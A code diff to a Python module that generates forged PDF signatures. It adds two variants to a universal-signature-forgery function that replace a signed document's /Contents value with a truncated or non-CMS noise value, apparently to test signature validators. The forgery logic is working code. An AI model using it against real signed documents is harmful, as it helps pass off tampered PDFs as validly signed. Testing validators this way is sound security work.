@@ -10,6 +10,7 @@ the attacker gives the victim to sign, with the material for the later change in
 
 from __future__ import annotations
 
+import hashlib
 import re
 from io import BytesIO
 
@@ -226,6 +227,8 @@ def swa_object_in_gap_comment(signed: bytes) -> bytes:
 
 _USF_CONTENTS = {
     "contents_zeroed": None,
+    "contents_odd_length": None,
+    "contents_not_cms": None,
     "contents_empty": b"<>",
     "contents_null": b"null",
     "contents_removed": None,
@@ -255,6 +258,11 @@ def usf(signed: bytes, variant: str) -> bytes:
         if variant == "contents_zeroed":
             new_gap = b"<" + b"0" * (len(gap) - 2) + b">"
             forged = signed[:b] + new_gap + signed[c:]
+        elif variant == "contents_odd_length":
+            forged = signed[:b] + _same_length(gap, gap[:-2] + b">") + signed[c:]
+        elif variant == "contents_not_cms":
+            noise = hashlib.sha256(gap).hexdigest().encode() * (len(gap) // 64 + 1)
+            forged = signed[:b] + b"<" + noise[: len(gap) - 2] + b">" + signed[c:]
         elif variant == "contents_removed":
             forged = signed[:key_at] + b"/Contentz" + signed[key_at + 9 :]
         else:
